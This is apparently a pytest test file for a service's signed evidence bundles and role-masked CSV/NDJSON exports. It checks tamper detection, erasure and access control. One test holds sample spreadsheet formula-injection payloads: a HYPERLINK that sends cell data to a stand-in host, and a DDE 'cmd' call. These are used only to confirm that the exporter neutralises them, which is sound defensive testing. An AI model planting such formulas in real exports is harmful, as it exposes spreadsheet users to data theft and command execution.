"""Evidence bundles and date-range exports, on a real SQLite database and a real signing key."""

from __future__ import annotations

import copy
import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import orjson
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, event
from typer.testing import CliRunner

from service.app import create_app
from service.audit.bundle import check_bundle, sign_bundle, verify_bundle
from service.audit.export import (
    EXPORTED,
    InvalidExport,
    build_bundle,
    export_decisions,
    stream_decisions,
)
from service.audit.log import take_checkpoint
from service.audit.signing import generate_signing_key, key_id, load_signing_key, public_pem
from service.auth.attributes import PERSONAL_PATHS
from service.auth.policy import MaskingPolicy, load_policy
from service.cli import app as cli
from service.persistence import make_engine, migrate, save_decision, save_label
from service.persistence import save_payment_outcome as save_payment
from service.persistence.access import record_personal_data_view
from service.persistence.audit_log import checkpoints, entries_about, sequence_all
from service.persistence.chain import commitment
from service.persistence.personal import erase_customer
from service.persistence.records import PersonalDataView
from service.settings import ServiceSettings
from tests.service.clients import create_people, sign_in
from tests.service.conftest import prepared_settings
from tests.service.persistence.samples import sample_decision

runner = CliRunner()
DECIDED = datetime(2024, 3, 1, 7, 30, tzinfo=UTC)
EMAIL = "jane@example.com"


def order_payload(order_id: str, customer: str = "cust-1") -> dict[str, Any]:
    """An order with personal values at several of the policy's personal paths."""
    return {
        "order_id": order_id,
        "amount": 129.99,
        "currency": "EUR",
        "items": [{"sku": "A-1", "qty": 2, "price": 0.1}],
        "customer": {"id": customer, "email": EMAIL, "phone": "+33 6 12 34 56 78"},
        "ip": "203.0.113.7",
        "payment": {"account_id": "pa-991", "last4": "4242"},
        "shipping_address": {"id": "adr-1", "name": "Jane Doe", "city": "Lyon", "lines": ["1 r"]},
    }


def decided(
    engine: Engine, order_id: str, at: datetime = DECIDED, customer: str = "cust-1"
) -> None:
    """Store one decision with its personal values kept apart (its entry left pending)."""
    new = sample_decision(
        order_id, customer_id=customer, decided_at=at, order_payload=order_payload(order_id)
    )
    save_decision(engine, new, open_case=False, personal=PERSONAL_PATHS)


def keyed_settings(data_dir: Path) -> ServiceSettings:
    """Return settings of a data dir, with a signing key created there if it has none."""
    settings = ServiceSettings(data_dir=data_dir)
    key = Path(settings.signing_key_source)
    if not key.exists():
        generate_signing_key(key)
    return settings


@pytest.fixture
def settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> ServiceSettings:
    monkeypatch.setenv("ORDERSHIELD_DATA_DIR", str(tmp_path))
    return keyed_settings(tmp_path)


@pytest.fixture
def engine(settings: ServiceSettings) -> Iterator[Engine]:
    engine = make_engine(settings.db_url)
    migrate(engine)
    yield engine
    engine.dispose()


@pytest.fixture(scope="module")
def policy() -> MaskingPolicy:
    return load_policy()


@pytest.fixture
def history(engine: Engine) -> str:
    """One order with a label, a payment outcome and a view of its personal data, among others."""
    decided(engine, "ord-0", customer="cust-0")
    decided(engine, "ord-1", at=DECIDED + timedelta(minutes=1))
    sequence_all(engine)
    save_label(engine, "ord-1", "fraud", "chargeback", DECIDED + timedelta(days=3), "api")
    decided(engine, "ord-2", at=DECIDED + timedelta(minutes=2), customer="cust-2")
    save_payment(engine, "ord-1", "declined", DECIDED + timedelta(hours=1))
    view = PersonalDataView(DECIDED, "user:legal", "legal", "order", "ord-1", ["ip"], "page")
    record_personal_data_view(engine, view)
    return "ord-1"


def public_key(settings: ServiceSettings) -> Any:
    return load_signing_key(settings.signing_key_source).public_key()


def test_a_bundle_holds_the_decision_and_every_entry_about_it_and_verifies_offline(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str
) -> None:
    bundle = build_bundle(engine, settings, history, "legal", policy, actor="user:legal")
    assert verify_bundle(bundle, public_key(settings)) == []
    kinds = [item["entry"]["kind"] for item in bundle["entries"]]
    assert kinds == ["decision.created", "label.fraud", "payment.declined", "personal_data.viewed"]
    assert {item["entry"]["subject"] for item in bundle["entries"]} == {history}
    assert bundle["decision"]["order_id"] == history
    exported = entries_about(engine, history, [EXPORTED])
    assert [(e.actor, e.body["role"]) for e in exported] == [("user:legal", "legal")]
    assert "customer.email" in exported[0].body["disclosed"]


def test_a_decision_still_pending_is_sequenced_into_its_bundle(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy
) -> None:
    decided(engine, "fresh")
    assert entries_about(engine, "fresh")[0].seq is None, "the entry waits for the sequencer"
    bundle = build_bundle(engine, settings, "fresh", "legal", policy)
    assert verify_bundle(bundle, public_key(settings)) == []
    assert bundle["entries"][0]["entry"]["seq"] == 1


def test_a_stored_checkpoint_that_covers_the_entries_is_reused_else_a_new_one_is_signed(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str
) -> None:
    signed, _ = take_checkpoint(engine, settings)
    first = build_bundle(engine, settings, history, "legal", policy)
    assert first["checkpoint"]["size"] == signed.size
    assert first["checkpoint"]["signature"] == signed.signature
    assert len(checkpoints(engine)) == 1
    # The export's own entry now is about the order and past that checkpoint.
    second = build_bundle(engine, settings, history, "legal", policy)
    assert second["checkpoint"]["size"] > signed.size
    assert len(checkpoints(engine)) == 2
    assert second["entries"][-1]["entry"]["kind"] == EXPORTED
    assert verify_bundle(second, public_key(settings)) == []


def _score(bundle: dict[str, Any]) -> None:
    bundle["decision"]["score"] = 0.01


def _email(bundle: dict[str, Any]) -> None:
    bundle["personal"]["customer.email"]["value"] = "someone@else.example"


def _proof(bundle: dict[str, Any]) -> None:
    proof = bundle["entries"][1]["proof"]
    proof[0] = ("0" if proof[0][0] != "0" else "1") + proof[0][1:]


@pytest.mark.parametrize(
    ("tamper", "problem"),
    [
        (_score, "the decision's fields do not match the content hash in entries[0]"),
        (_email, "does not match the decision's commitment"),
        (_proof, "does not verify against the checkpoint"),
    ],
)
def test_a_tampered_bundle_does_not_verify_even_signed_again(
    engine: Engine,
    settings: ServiceSettings,
    policy: MaskingPolicy,
    history: str,
    tamper: Any,
    problem: str,
) -> None:
    good = build_bundle(engine, settings, history, "legal", policy)
    key = load_signing_key(settings.signing_key_source)
    changed = copy.deepcopy(good)
    tamper(changed)
    assert any("signature does not verify" in p for p in verify_bundle(changed, key.public_key()))
    problems = verify_bundle(sign_bundle(changed, key), key.public_key())
    assert len(problems) == 1 and problem in problems[0], problems


def test_the_command_line_verifies_a_bundle_offline_and_refuses_a_tampered_one(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str, tmp_path: Path
) -> None:
    key_file = tmp_path / "audit.pub"
    key_file.write_text(public_pem(public_key(settings)))
    path = tmp_path / "bundle.json"
    wrote = runner.invoke(cli, ["audit", "bundle", history, "--out", str(path)])
    assert wrote.exit_code == 0, wrote.output
    checked = runner.invoke(
        cli, ["audit", "verify-bundle", str(path), "--public-key", str(key_file)]
    )
    assert checked.exit_code == 0, checked.output
    assert "verified" in checked.output
    bundle = orjson.loads(path.read_bytes())
    assert bundle["personal"]["customer.email"]["value"] == EMAIL, "--role defaults to legal"
    _score(bundle)
    path.write_bytes(orjson.dumps(bundle))
    refused = runner.invoke(
        cli, ["audit", "verify-bundle", str(path), "--public-key", str(key_file)]
    )
    assert refused.exit_code == 1
    assert "content hash" in refused.output


def test_legal_gets_the_email_matching_its_commitment(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str
) -> None:
    legal = build_bundle(engine, settings, history, "legal", policy)
    disclosed = legal["personal"]["customer.email"]
    assert disclosed["value"] == EMAIL
    committed = legal["decision"]["personal"]["customer.email"]
    assert commitment(disclosed["salt"], disclosed["value"]) == committed
    assert verify_bundle(legal, public_key(settings)) == []


@pytest.mark.parametrize("role", ["admin", "reviewer", "senior_reviewer", "logistics", "service"])
def test_a_role_the_policy_withholds_anything_from_gets_no_bundle_and_nothing_is_written(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str, role: str
) -> None:
    # The committed fields hold, whole, features computed from personal data
    # (the local hour gives back the shipping longitude) that the masking withholds.
    sequence_all(engine)
    before = entries_about(engine, history)
    with pytest.raises(InvalidExport) as refused:
        build_bundle(engine, settings, history, role, policy)
    assert refused.value.field == "role"
    assert f"the {role} role may not export a signed bundle" in refused.value.message
    assert "a bundle is exported by legal" in refused.value.message
    assert entries_about(engine, history) == before
    assert checkpoints(engine) == []


def test_an_order_id_with_a_control_character_is_refused_before_anything_is_written(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy
) -> None:
    decided(engine, "fresh")
    for order_id in ("\x00", "fresh\x00", "fr\nesh"):
        with pytest.raises(InvalidExport) as refused:
            build_bundle(engine, settings, order_id, "legal", policy)
        assert refused.value.field == "order_id"
    assert entries_about(engine, "fresh")[0].seq is None, "not even sequenced"


def test_a_stored_checkpoint_signed_by_another_key_is_not_used(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str, tmp_path: Path
) -> None:
    old, _ = take_checkpoint(engine, settings)
    rotated_key = tmp_path / "rotated.pem"
    generate_signing_key(rotated_key)
    rotated = ServiceSettings(data_dir=settings.data_dir, audit_signing_key=str(rotated_key))
    bundle = build_bundle(engine, rotated, history, "legal", policy)
    new_key = public_key(rotated)
    assert bundle["checkpoint"]["key_id"] == key_id(new_key) != old.key_id
    assert bundle["checkpoint"]["size"] == old.size, "it covers what the old one did"
    assert verify_bundle(bundle, new_key) == []
    assert sorted(row.key_id for row in checkpoints(engine)) == sorted(
        [old.key_id, key_id(new_key)]
    )


def test_after_an_erasure_the_bundle_shows_it_still_verifies_and_so_does_the_log(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str
) -> None:
    erase_customer(engine, "cust-1", "dpo")
    bundle = build_bundle(engine, settings, history, "legal", policy)
    erased = bundle["personal"]["customer.email"]
    assert erased["erased_by"] == "dpo" and set(erased) == {"erased_at", "erased_by"}
    assert EMAIL not in orjson.dumps(bundle).decode()
    report = check_bundle(bundle, public_key(settings))
    assert report.ok, report.problems
    assert any(item.startswith("customer.email: erased at") for item in report.undisclosed)
    verified = runner.invoke(cli, ["audit", "verify"])
    assert verified.exit_code == 0, verified.output
    assert "verified" in verified.output


def test_a_bundle_of_an_unknown_order_or_for_an_unknown_role_is_refused(
    engine: Engine, settings: ServiceSettings, policy: MaskingPolicy, history: str
) -> None:
    with pytest.raises(LookupError, match="no decision for order 'nope'"):
        build_bundle(engine, settings, "nope", "legal", policy)
    with pytest.raises(InvalidExport, match="role"):
        build_bundle(engine, settings, history, "auditor", policy)


# Date-range exports.

RANGE = (DECIDED - timedelta(days=1), DECIDED + timedelta(days=1))


def ndjson(engine: Engine, policy: MaskingPolicy, role: str) -> list[dict[str, Any]]:
    chunks = stream_decisions(engine, *RANGE, role, policy, "ndjson")
    return [orjson.loads(line) for line in b"".join(chunks).splitlines()]


def csv_rows(engine: Engine, policy: MaskingPolicy, role: str) -> list[dict[str, str]]:
    text = b"".join(stream_decisions(engine, *RANGE, role, policy, "csv")).decode()
    return list(csv.DictReader(io.StringIO(text)))


def test_ndjson_rows_are_masked_for_the_role(
    engine: Engine, policy: MaskingPolicy, history: str
) -> None:
    admin = ndjson(engine, policy, "admin")
    assert [row["order_id"] for row in admin] == ["ord-0", "ord-1", "ord-2"]
    assert {row["customer"]["email"] for row in admin} == {"j***@example.com"}
    assert "last4" not in admin[0]["payment"]
    legal = ndjson(engine, policy, "legal")
    assert legal[1]["customer"]["email"] == EMAIL
    assert legal[1]["payment"]["last4"] == "4242"
    logistics = ndjson(engine, policy, "logistics")
    assert all("customer" not in row and "payment" not in row for row in logistics)
    assert logistics[1]["shipping_address"]["city"] == "Lyon"
    assert EMAIL not in orjson.dumps(logistics + admin).decode()


def test_csv_columns_and_cells_are_masked_for_the_role(
    engine: Engine, policy: MaskingPolicy, history: str
) -> None:
    admin = csv_rows(engine, policy, "admin")
    assert [row["customer.email"] for row in admin] == ["j***@example.com"] * 3
    assert "payment.last4" not in admin[0]
    assert [row["customer.email"] for row in csv_rows(engine, policy, "legal")] == [EMAIL] * 3
    logistics = csv_rows(engine, policy, "logistics")
    assert len(logistics) == 3
    assert not [name for name in logistics[0] if name.startswith(("customer.", "payment."))]
    assert logistics[0]["shipping_address.city"] == "Lyon"


def test_an_erased_value_exports_as_empty(
    engine: Engine, policy: MaskingPolicy, history: str
) -> None:
    erase_customer(engine, "cust-1", "dpo")
    emails = [row["customer"].get("email") for row in ndjson(engine, policy, "legal")]
    assert emails == [EMAIL, None, EMAIL]


def test_the_export_streams_in_batches_with_one_personal_query_per_batch(
    engine: Engine, policy: MaskingPolicy
) -> None:
    for n in range(5):
        decided(engine, f"batch-{n}", at=DECIDED + timedelta(minutes=n), customer=f"c-{n}")
    statements: list[str] = []

    def seen(*args: Any) -> None:
        statements.append(args[2])

    event.listen(engine, "before_cursor_execute", seen)
    try:
        chunks = stream_decisions(engine, *RANGE, "admin", policy, "ndjson", batch=2)
        assert statements == [], "nothing is read before the first chunk is asked for"
        first = next(chunks)
        assert first.count(b"\n") == 2
        personal_reads = [s for s in statements if "FROM personal_values" in s]
        assert len(personal_reads) == 1, "one batch read so far, not the whole range"
        rest = list(chunks)
    finally:
        event.remove(engine, "before_cursor_execute", seen)
    assert [chunk.count(b"\n") for chunk in rest] == [2, 1]
    assert sum("FROM decisions" in s for s in statements) == 1, "one streaming query"
    assert sum("FROM personal_values" in s for s in statements) == 3, "one per batch"


@pytest.mark.parametrize(
    ("start", "end", "fmt", "field"),
    [
        (RANGE[1], RANGE[0], "ndjson", "end"),
        (RANGE[0], RANGE[0], "csv", "end"),
        (RANGE[0].replace(tzinfo=None), RANGE[1], "csv", "start"),
        (RANGE[0], RANGE[0] + timedelta(days=367), "csv", "end"),
        (RANGE[0], RANGE[1], "xlsx", "format"),
    ],
)
def test_a_bad_range_is_refused_naming_the_field(
    engine: Engine, policy: MaskingPolicy, start: datetime, end: datetime, fmt: str, field: str
) -> None:
    with pytest.raises(InvalidExport) as refused:
        stream_decisions(engine, start, end, "legal", policy, fmt)
    assert refused.value.field == field


PLUS_FIVE, MINUS_FIVE = timezone(timedelta(hours=5)), timezone(timedelta(hours=-5))
OUT_OF_RANGE = [
    (datetime(1, 1, 1, tzinfo=PLUS_FIVE), datetime(1, 1, 2, tzinfo=PLUS_FIVE), "start"),
    (
        datetime(9999, 12, 31, 19, tzinfo=MINUS_FIVE),
        datetime(9999, 12, 31, 23, tzinfo=MINUS_FIVE),
        "start",
    ),
    (datetime(2100, 12, 31, tzinfo=UTC), datetime(9999, 12, 31, 23, tzinfo=MINUS_FIVE), "end"),
    (datetime(1999, 12, 31, tzinfo=UTC), datetime(2000, 1, 2, tzinfo=UTC), "start"),
    (datetime(2100, 12, 31, tzinfo=UTC), datetime(2101, 1, 1, 0, 0, 1, tzinfo=UTC), "end"),
]


@pytest.mark.parametrize(("start", "end", "field"), OUT_OF_RANGE)
def test_a_range_outside_the_years_2000_to_2100_is_refused_and_not_logged(
    engine: Engine, policy: MaskingPolicy, start: datetime, end: datetime, field: str
) -> None:
    with pytest.raises(InvalidExport) as refused:
        export_decisions(engine, start, end, "legal", policy, "csv", "user:legal")
    assert refused.value.field == field
    assert "2000 to 2100" in refused.value.message
    assert entries_about(engine, "decisions", [EXPORTED]) == []


def test_a_range_in_another_zone_is_exported_and_logged_in_utc(
    engine: Engine, policy: MaskingPolicy, history: str
) -> None:
    start, end = (moment.astimezone(PLUS_FIVE) for moment in RANGE)
    rows = b"".join(export_decisions(engine, start, end, "legal", policy, "ndjson", "u"))
    assert rows.count(b"\n") == 3
    [logged] = entries_about(engine, "decisions", [EXPORTED])
    assert logged.body["start"] == RANGE[0].isoformat(timespec="microseconds")


def formula_order(order_id: str, text: str) -> dict[str, Any]:
    payload = order_payload(order_id)
    payload["device"] = {"fingerprint": "fp-1", "user_agent": text}
    payload["shipping_address"]["city"] = text
    return payload


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(
    engine: Engine, policy: MaskingPolicy
) -> None:
    for n, text in enumerate([*FORMULAS, "Mozilla/5.0 = fine"]):
        new = sample_decision(
            f"f-{n}",
            decided_at=DECIDED + timedelta(minutes=n),
            order_payload=formula_order(f"f-{n}", text),
        )
        save_decision(engine, new, open_case=False, personal=PERSONAL_PATHS)
    rows = csv_rows(engine, policy, "legal")
    assert [row["device.user_agent"] for row in rows] == [
        *(f"'{text}" for text in FORMULAS),
        "Mozilla/5.0 = fine",
    ]
    assert [row["shipping_address.city"] for row in rows][:4] == [f"'{t}" for t in FORMULAS]
    assert [row["amount"] for row in rows] == ["129.99"] * 5, "numbers are left as they are"


def test_a_range_export_is_logged_with_who_asked(
    engine: Engine, policy: MaskingPolicy, history: str
) -> None:
    chunks = export_decisions(engine, *RANGE, "legal", policy, "csv", "user:legal")
    assert len(list(chunks)) == 2
    sequence_all(engine)
    [logged] = entries_about(engine, "decisions", [EXPORTED])
    assert logged.actor == "user:legal"
    assert logged.body["export"] == "csv" and "customer.email" in logged.body["personal_unmasked"]


def test_the_export_command_streams_to_a_file(
    engine: Engine, settings: ServiceSettings, history: str, tmp_path: Path
) -> None:
    out = tmp_path / "export.csv"
    start, end = (moment.isoformat() for moment in RANGE)
    args = ["audit", "export", "--start", start, "--end", end, "--format", "csv"]
    done = runner.invoke(cli, [*args, "--role", "admin", "--out", str(out)])
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [row["customer.email"] for row in rows] == ["j***@example.com"] * 3
    backwards = ["audit", "export", "--start", end, "--end", start, "--role", "admin"]
    refused = runner.invoke(cli, [*backwards, "--out", str(tmp_path / "no.csv")])
    assert refused.exit_code == 2
    assert "--end" in refused.output
    naive = runner.invoke(
        cli, [*args[:3], "2024-03-01", *args[4:], "--role", "admin", "--out", str(out)]
    )
    assert naive.exit_code == 2 and "time zone" in naive.output


@pytest.mark.parametrize(("start", "end", "field"), OUT_OF_RANGE[:3])
def test_the_export_command_refuses_a_range_outside_the_years_2000_to_2100(
    engine: Engine, tmp_path: Path, start: datetime, end: datetime, field: str
) -> None:
    out = tmp_path / "export.csv"
    args = ["audit", "export", "--start", start.isoformat(), "--end", end.isoformat()]
    refused = runner.invoke(cli, [*args, "--role", "legal", "--out", str(out)])
    assert refused.exit_code == 2, refused.output
    assert f"--{field}" in refused.output and "2000 to 2100" in refused.output
    assert not out.exists()
    assert entries_about(engine, "decisions", [EXPORTED]) == []


# The routes, through the app.


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, stream: Any) -> Iterator[tuple[TestClient, Any]]:
    settings = prepared_settings(tmp_path_factory.mktemp("site"), stream.iloc[:200])
    keyed_settings(settings.data_dir)
    create_people(settings)
    engine = make_engine(settings.db_url)
    decided(engine, "web-1")
    with TestClient(create_app(settings)) as client:
        yield client, settings
    engine.dispose()


def test_legal_downloads_a_bundle_that_verifies(site: tuple[TestClient, Any]) -> None:
    client, settings = site
    client.cookies.clear()
    sign_in(client, "legal")
    answer = client.get("/legal/decisions/web-1/bundle.json")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-disposition"] == 'attachment; filename="evidence-web-1.json"'
    assert verify_bundle(answer.json(), public_key(settings)) == []
    assert answer.json()["personal"]["customer.email"]["value"] == EMAIL
    missing = client.get("/legal/decisions/nope/bundle.json")
    assert missing.status_code == 404


def test_the_export_route_streams_masked_csv_and_names_a_bad_field(
    site: tuple[TestClient, Any],
) -> None:
    client, _ = site
    client.cookies.clear()
    sign_in(client, "admin")
    start, end = (moment.isoformat() for moment in RANGE)
    answer = client.get("/legal/export", params={"start": start, "end": end, "format": "csv"})
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [row["customer.email"] for row in rows] == ["j***@example.com"]
    backwards = client.get("/legal/export", params={"start": end, "end": start})
    assert backwards.status_code == 422
    assert backwards.json()["detail"][0]["field"] == "end"
    unknown = client.get("/legal/export", params={"start": start, "end": end, "format": "xls"})
    assert unknown.status_code == 422
    assert unknown.json()["detail"][0]["field"] == "format"
    for first, last, field in OUT_OF_RANGE:
        params = {"start": first.isoformat(), "end": last.isoformat()}
        outside = client.get("/legal/export", params=params)
        assert outside.status_code == 422, (params, outside.text)
        assert outside.json()["detail"][0]["field"] == field


def test_only_legal_and_admin_may_export(site: tuple[TestClient, Any]) -> None:
    client, _ = site
    client.cookies.clear()
    anonymous = client.get("/legal/decisions/web-1/bundle.json", follow_redirects=False)
    assert anonymous.status_code in (302, 303, 307)
    sign_in(client, "reviewer")
    assert client.get("/legal/decisions/web-1/bundle.json").status_code == 403
    start, end = (moment.isoformat() for moment in RANGE)
    assert client.get("/legal/export", params={"start": start, "end": end}).status_code == 403


def test_legal_downloads_the_evidence_pdf_and_logistics_may_not(
    site: tuple[TestClient, Any],
) -> None:
    client, _ = site
    client.cookies.clear()
    sign_in(client, "legal")
    answer = client.get("/legal/decisions/web-1/evidence.pdf")
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "application/pdf"
    assert answer.headers["content-disposition"] == 'attachment; filename="evidence-web-1.pdf"'
    assert answer.content.startswith(b"%PDF-")
    client.cookies.clear()
    sign_in(client, "logistics")
    assert client.get("/legal/decisions/web-1/evidence.pdf").status_code == 403


def test_admin_gets_no_bundle_and_a_pdf_without_one_that_says_legal_exports_it(
    site: tuple[TestClient, Any],
) -> None:
    from tests.service.audit.test_pdf import pages_text

    client, settings = site
    engine = make_engine(settings.db_url)
    client.cookies.clear()
    sign_in(client, "admin")
    try:
        refused = client.get("/legal/decisions/web-1/bundle.json")
        assert refused.status_code == 403, refused.text
        assert "a bundle is exported by legal" in refused.json()["detail"]
        sequence_all(engine)
        before = entries_about(engine, "web-1", [EXPORTED])
        answer = client.get("/legal/decisions/web-1/evidence.pdf")
        assert answer.status_code == 200, answer.text
        text = pages_text(answer.content)
        assert "The signed evidence bundle is exported by legal" in text
        assert "Merkle root" not in text and "bundle signature" not in text
        assert EMAIL not in text and "j***@example.com" in text
        sequence_all(engine)
        logged = entries_about(engine, "web-1", [EXPORTED])[len(before) :]
        assert [(e.actor, e.body) for e in logged] == [
            ("user:admin", {"export": "pdf", "role": "admin", "bundle": False})
        ]
    finally:
        engine.dispose()
